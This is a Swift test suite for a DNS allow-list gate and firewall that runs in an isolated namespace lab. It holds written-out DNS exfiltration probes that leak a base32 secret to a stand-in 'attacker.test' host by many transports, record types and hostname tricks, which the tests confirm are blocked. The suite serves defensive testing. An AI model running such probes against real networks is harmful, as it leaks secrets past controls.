import Foundation
import Netlab
import Testing
import CagentNetwork
import CagentCore
@testable import CagentDNS

/// The gate end to end in a throwaway three-namespace network (GateLab): real dnsmasq upstream and
/// attacker, real nftables redirect and sets, real nflog through libpcap. Serialized: each test builds
/// its own namespaces, but the machine has two cores.
@Suite(.serialized) struct GateNetworkTests {
    static let tools = ["ip", "nft", "dnsmasq", "dig", "busybox", "curl", "getent", "socat"]
    static let ready = Requirements.mayRun(root: true, tools: tools)

    func withLab(_ body: (GateLab) throws -> Void) throws {
        try Requirements.root()
        for tool in Self.tools { try Requirements.tool(tool) }
        let lab = try GateLab()
        defer { lab.close() }
        try body(lab)
    }

    /// Lines that mention `text`; each denial must produce exactly one.
    func lines(_ lab: GateLab, _ text: String) -> [String] { lab.reported(containing: text) }

    func dig(_ lab: GateLab, _ arguments: String) -> String {
        lab.inSandbox("dig +time=2 +tries=1 \(arguments)").output
    }

    @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent, socat"))
    func allowedNameResolvesAndItsServerAnswers() throws {
        try withLab { lab in
            try lab.startGate(domains: ["www.allowed.test"])
            // Control for the firewall: before any lookup the server's address is not reachable.
            #expect(lab.inSandbox("curl -s -m 2 http://203.0.113.80/").status != 0)
            #expect(lab.inSandbox("getent ahostsv4 www.allowed.test").output.contains("203.0.113.80"))
            #expect(lab.setElements("allow4").contains("203.0.113.80"))
            #expect(lab.inSandbox("curl -s -m 3 http://www.allowed.test/").output.contains("hello"))
            #expect(lines(lab, "blocked tcp 203.0.113.80:80").count == 1, "\(lab.reported)")
        }
    }

    @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent, socat"))
    func cnameChainToAnAllowedNameWorks() throws {
        try withLab { lab in
            try lab.startGate(domains: ["cdn-alias.allowed.test"])
            let answer = dig(lab, "cdn-alias.allowed.test")
            #expect(answer.contains("CNAME") && answer.contains("edge.cdn.test") && answer.contains("203.0.113.81"))
            #expect(lab.inSandbox("curl -s -m 3 http://cdn-alias.allowed.test/").output.contains("hello"))
            // The chain's target alone is not an allowed name.
            #expect(dig(lab, "edge.cdn.test").contains("NXDOMAIN"))
        }
    }

    @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent, socat"))
    func oneLabelWildcardMatchesOnLabelBoundariesOnly() throws {
        try withLab { lab in
            try lab.startGate(domains: ["*.allowed.test"])
            #expect(dig(lab, "+short a.allowed.test").contains("203.0.113.80"))
            #expect(dig(lab, "allowed.test").contains("NXDOMAIN"))
            #expect(dig(lab, "evilallowed.test").contains("NXDOMAIN"))
            // Positive control: the allowed name reached upstream; the others never did.
            #expect(!lab.queries("upstream.log", "a.allowed.test").isEmpty)
            #expect(lab.queries("upstream.log", "evilallowed.test").isEmpty)
            #expect(lab.queries("upstream.log", " allowed.test ").isEmpty)
            #expect(lines(lab, "refused DNS evilallowed.test (not in profile)").count == 1)
        }
    }

    @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent, socat"))
    func aNameWhoseAddressChangesWorksAfterTheNextLookup() throws {
        try withLab { lab in
            try lab.startGate(domains: ["moving.allowed.test"])
            #expect(lab.inSandbox("curl -s -m 3 -o /dev/null -w '%{remote_ip}' http://moving.allowed.test/").output == "203.0.113.80")
            try lab.run("echo '203.0.113.82 moving.allowed.test' > \(lab.dir)/moving.hosts")
            kill(lab.upstreamPID, SIGHUP)
            usleep(1_500_000)   // the record's TTL (1 s) runs out
            #expect(lab.inSandbox("curl -s -m 3 -o /dev/null -w '%{remote_ip}' http://moving.allowed.test/").output == "203.0.113.82")
        }
    }

    @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent, socat"))
    func anExpiredPinIsDroppedForNewConnectionsButOpenOnesLive() throws {
        try withLab { lab in
            try lab.startGate(domains: ["www.allowed.test"], clamp: .init(floor: 2, cap: 2))
            try lab.startSlowServer()
            #expect(dig(lab, "+short www.allowed.test").contains("203.0.113.80"))
            // Control: the pin works while it lives. This connection opens now and gets its answer after
            // 3 s, when the 2 s pin is gone: an open connection is never cut by expiry.
            let slow = lab.inSandbox("timeout 8 socat -u TCP:203.0.113.80:7000,connect-timeout=2 -")
            #expect(slow.output == "late\n", "\(slow)")
            // The pin ran out and nothing looked the name up again: new connections are dropped.
            #expect(lab.inSandbox("curl -s -m 2 http://203.0.113.80/").status != 0)
            #expect(lab.inSandbox("curl -s -m 2 http://203.0.113.80/").status != 0)
            #expect(lines(lab, "cagent: blocked tcp 203.0.113.80:80 (www.allowed.test)").count == 1, "\(lab.reported)")
            // And the next lookup opens it again.
            #expect(dig(lab, "+short www.allowed.test").contains("203.0.113.80"))
            #expect(lab.inSandbox("curl -s -m 2 http://203.0.113.80/").output.contains("hello"))
        }
    }

    /// N1-N4, N14, N16: whatever the transport, type, server or spelling, no query about attacker.test
    /// leaves; the attacker's server logs nothing, while the same query from the host reaches it.
    @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent, socat"))
    func noDNSExfiltrationHoweverItIsSent() throws {
        try withLab { lab in
            try lab.startGate(domains: ["**.allowed.test"])
            try lab.startEncryptedDNSListeners()
            // Positive controls: without the gate (from the host namespace) the same transports, types,
            // servers and ports reach the attacker; each query is in its log.
            #expect(lab.inHost("dig +short +time=2 +tries=1 @203.0.113.66 control.attacker.test").output.contains("203.0.113.99"))
            #expect(lab.inHost("dig +short +tcp +time=2 +tries=1 @203.0.113.66 control-tcp.attacker.test").output.contains("203.0.113.99"))
            #expect(lab.inHost("dig +short +time=2 +tries=1 @203.0.113.53 control-fwd.attacker.test").output.contains("203.0.113.99"))
            #expect(lab.inHost("dig -6 +short +time=2 +tries=1 @2001:db8::66 AAAA control-v6.attacker.test").output.contains("2001:db8::99"))
            #expect(lab.inHost("dig +tcp -6 +short +time=2 +tries=1 @2001:db8::66 AAAA control-tcp6.attacker.test").output.contains("2001:db8::99"))
            for type in ["TXT", "NULL", "ANY", "TYPE64"] {
                let answer = lab.inHost("dig +time=2 +tries=1 @203.0.113.66 \(type) control-\(type.lowercased()).attacker.test").output
                #expect(answer.contains("->>HEADER<<-"), "control \(type): no answer: \(answer)")
            }
            for name in ["control", "control-tcp", "control-fwd", "control-v6", "control-tcp6", "control-txt", "control-null", "control-any", "control-type64"] {
                #expect(lab.queries("attacker.log", " \(name).attacker.test ").count == 1, "control \(name) did not reach the attacker")
            }
            // DoT and DoH by address answer without the gate.
            #expect(lab.inHost("socat -u TCP:203.0.113.66:853,connect-timeout=2 -").output == "open-853\n")
            #expect(lab.inHost("socat -u TCP:203.0.113.66:443,connect-timeout=2 -").output == "open-443\n")

            let secret = "mzxw6ytboi4dsmzwgq2tmnzygq"   // base32 of a secret
            let probes: [(String, String)] = [
                ("getent hosts \(secret).x1.attacker.test", "\(secret).x1.attacker.test"),
                ("dig +time=2 +tries=1 x2.attacker.test", "x2.attacker.test"),
                ("dig +time=2 +tries=1 @203.0.113.66 x3.attacker.test", "x3.attacker.test"),
                ("dig +time=2 +tries=1 @203.0.113.53 x4.attacker.test", "x4.attacker.test"),
                ("dig +tcp +time=2 +tries=1 @203.0.113.66 x5.attacker.test", "x5.attacker.test"),
                ("dig +time=2 +tries=1 @203.0.113.66 TXT x6.attacker.test", "x6.attacker.test"),
                ("dig +time=2 +tries=1 @203.0.113.66 NULL x7.attacker.test", "x7.attacker.test"),
                ("dig +time=2 +tries=1 @203.0.113.66 ANY x8.attacker.test", "x8.attacker.test"),
                ("dig +time=2 +tries=1 @203.0.113.66 TYPE64 x9.attacker.test", "x9.attacker.test"),
                ("dig -6 +time=2 +tries=1 @2001:db8::66 AAAA x10.attacker.test", "x10.attacker.test"),
                ("dig +tcp -6 +time=2 +tries=1 @2001:db8::66 AAAA x11.attacker.test", "x11.attacker.test"),
                ("dig +time=2 +tries=1 @203.0.113.66 X12.AtTaCkEr.TeSt", "X12.AtTaCkEr.TeSt"),
                ("curl -s -m 2 --noproxy '*' http://x13.attacker.test/", "x13.attacker.test"),
            ]
            for (command, _) in probes { _ = lab.inSandbox(command) }
            // Hostname tricks on an allowed suffix: a dot or NUL inside a label is refused.
            #expect(dig(lab, "@203.0.113.66 'x14\\.attacker.allowed.test'").contains("REFUSED"))
            #expect(dig(lab, "@203.0.113.66 'x15\\000.attacker.allowed.test'").contains("REFUSED"))
            // N2 on an allowed name: NODATA locally, never forwarded as TXT.
            let txt = dig(lab, "TXT www.allowed.test")
            #expect(txt.contains("NOERROR") && txt.contains("ANSWER: 0"))
            // N4: DoT and DoH endpoints by address are blocked.
            let dot = lab.inSandbox("socat -u TCP:203.0.113.66:853,connect-timeout=2 -")
            let doh = lab.inSandbox("socat -u TCP:203.0.113.66:443,connect-timeout=2 -")
            #expect(dot.status != 0 && !dot.output.contains("open-853"), "DoT: \(dot)")
            #expect(doh.status != 0 && !doh.output.contains("open-443"), "DoH: \(doh)")
            #expect(lab.attackerLogSettled(), "the attacker's log never showed the last control query")

            // The lab's own readiness probe (ready.attacker.test) and the control are the only queries.
            let leaks = lab.queries("attacker.log", "attacker.test").filter { !$0.contains(" ready.attacker.test ") && !$0.contains(" control") }
            #expect(leaks.isEmpty, "\(leaks)")
            #expect(lab.queries("upstream.log", "attacker").filter { !$0.contains(" control-fwd.attacker.test ") }.isEmpty)
            #expect(lab.queries("upstream.log", "query[TXT]").isEmpty)
            #expect(lab.queries("upstream.log", "x14").isEmpty && lab.queries("upstream.log", "x15").isEmpty)
            for (_, name) in probes {
                #expect(lines(lab, "cagent: refused DNS \(name) (not in profile)").count == 1, "\(name): \(lab.reported)")
            }
            #expect(lines(lab, "x14\\\\.attacker.allowed.test").count == 1, "\(lab.reported)")
            #expect(lines(lab, "cagent: blocked tcp 203.0.113.66:853").count == 1)
            #expect(lines(lab, "cagent: blocked tcp 203.0.113.66:443").count == 1)
        }
    }

    /// N12: an allowed name answering loopback, metadata or private addresses is refused and never pinned.
    @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent, socat"))
    func rebindingAnswersAreNeverPinned() throws {
        try withLab { lab in
            try lab.startGate(domains: ["**.allowed.test"])
            #expect(dig(lab, "+short www.allowed.test").contains("203.0.113.80"))   // control: pinned
            for name in ["rebind", "meta", "private"] {
                #expect(dig(lab, "\(name).allowed.test").contains("REFUSED"))
            }
            let set = lab.setElements("allow4")
            #expect(set.contains("203.0.113.80"))
            for address in ["127.0.0.1", "169.254.169.254", "10.1.2.3"] { #expect(!set.contains(address)) }
            #expect(lines(lab, "cagent: refused DNS rebind.allowed.test (answer 127.0.0.1 is loopback)").count == 1)
            #expect(lines(lab, "cagent: refused DNS meta.allowed.test (answer 169.254.169.254 is cloud metadata)").count == 1)
            #expect(lines(lab, "cagent: refused DNS private.allowed.test (answer 10.1.2.3 is private)").count == 1)
        }
    }

    @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent, socat"))
    func ipv6AnswersArePinnedAndReachable() throws {
        try withLab { lab in
            try lab.startGate(domains: ["v6.allowed.test"])
            #expect(lab.inSandbox("curl -s -m 2 http://[2001:db8::80]/").status != 0)   // control: blocked before
            #expect(dig(lab, "-6 +short AAAA v6.allowed.test @fd99::1").contains("2001:db8::80"))
            #expect(lab.setElements("allow6").contains("2001:db8::80"))
            #expect(lab.inSandbox("curl -s -m 3 -6 http://v6.allowed.test/").output.contains("hello"))
        }
    }

    /// The merge wiring: NetworkSession's firewall (redirect, allow sets keyed address . proto . port, log
    /// group) with the gate pinning through SessionFirewall and the reader on the session's nflog group.
    @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent, socat"))
    func withTheSessionFirewall() throws {
        try Requirements.root()
        let lab = try GateLab(productFirewall: true)
        defer { lab.close() }
        try lab.startSessionGate(domains: ["www.allowed.test"])
        // Control: the web server is not reachable by address before the lookup.
        #expect(lab.inSandbox("curl -s -m 2 http://203.0.113.80/").status != 0)
        #expect(dig(lab, "+short www.allowed.test").contains("203.0.113.80"))
        #expect(lab.inSandbox("curl -s -m 3 http://www.allowed.test/").output.contains("hello"))
        // Pinned for tcp/80 and tcp/443 only (a domains: entry), not for other ports. Control: a listener
        // at 8080 answers the same probe from the host.
        try lab.startListener(address: "203.0.113.80", port: 8080)
        let probe8080 = "socat -u TCP:203.0.113.80:8080,connect-timeout=2 -"
        #expect(lab.inHost(probe8080).output == "open-8080\n", "control: nothing answers at 8080")
        let other = lab.inSandbox(probe8080)
        #expect(other.status != 0 && !other.output.contains("open-8080"), "\(other)")
        // Exfiltration through any resolver goes nowhere; the host-side controls (UDP A, TCP TXT) reach the attacker.
        #expect(lab.inHost("dig +short +time=2 +tries=1 @203.0.113.66 control.attacker.test").output.contains("203.0.113.99"))
        #expect(lab.inHost("dig +tcp +time=2 +tries=1 @203.0.113.66 TXT control-tcp-txt.attacker.test").output.contains("->>HEADER<<-"))
        #expect(lab.queries("attacker.log", " control.attacker.test ").count == 1 && lab.queries("attacker.log", " control-tcp-txt.attacker.test ").count == 1,
                "the controls did not reach the attacker")
        _ = dig(lab, "@203.0.113.66 s1.attacker.test")
        _ = dig(lab, "+tcp @203.0.113.66 TXT s2.attacker.test")
        #expect(lab.attackerLogSettled(), "the attacker's log never showed the last control query")
        let leaks = lab.queries("attacker.log", "attacker.test").filter { !$0.contains(" ready.attacker.test ") && !$0.contains(" control") }
        #expect(leaks.isEmpty, "\(leaks)")
        #expect(lines(lab, "cagent: refused DNS s1.attacker.test (not in profile)").count == 1, "\(lab.reported)")
        #expect(lines(lab, "cagent: blocked tcp 203.0.113.80:8080 (www.allowed.test)").count == 1, "\(lab.reported)")
    }

    @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent, socat"))
    func pinsCarryTheEntrysPortsAndTheClampedTTL() throws {
        try withLab { lab in
            let pinner = RecordingPinner()
            try lab.startGate(domains: ["www.allowed.test"], endpoints: [(host: "cdn-alias.allowed.test", port: PinPort(.tcp, 22))],
                              clamp: .init(floor: 30, cap: 300), pinner: pinner)
            let answer = dig(lab, "+noall +answer www.allowed.test")
            #expect(answer.contains("203.0.113.80"))
            // The upstream's TTL is 1 s: the pin lives 30 s (the floor), the client may cache 1 s only.
            #expect(answer.contains("\t1\tIN\tA"), "\(answer)")
            _ = dig(lab, "cdn-alias.allowed.test")
            #expect(pinner.calls == [
                RecordingPinner.Call(address: IPAddress("203.0.113.80")!, ports: PinPort.webDefaults, ttl: 30, refresh: false),
                RecordingPinner.Call(address: IPAddress("203.0.113.81")!, ports: [PinPort(.tcp, 22)], ttl: 30, refresh: false),
            ])
            _ = dig(lab, "www.allowed.test")
            #expect(pinner.calls.last == RecordingPinner.Call(address: IPAddress("203.0.113.80")!, ports: PinPort.webDefaults, ttl: 30, refresh: true))
        }
    }

    @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent, socat"))
    func aTruncatedUpstreamAnswerIsFetchedOverTCP() throws {
        try withLab { lab in
            try lab.startTruncatingUpstream()
            try lab.startGate(domains: ["www.allowed.test"], upstream: "203.0.113.54")
            #expect(dig(lab, "+short www.allowed.test").contains("203.0.113.81"))
            #expect(lab.setElements("allow4").contains("203.0.113.81"))
        }
    }

    @Test(.enabled(if: ready, "needs root, ip, nft, dnsmasq, dig, busybox, curl, getent, socat"))
    func aFailedPinReleasesNothing() throws {
        try withLab { lab in
            let pinner = RecordingPinner()
            pinner.fail(true)
            try lab.startGate(domains: ["www.allowed.test"], pinner: pinner)
            let answer = dig(lab, "www.allowed.test")
            #expect(answer.contains("SERVFAIL") && !answer.contains("203.0.113.80"))
        }
    }
}
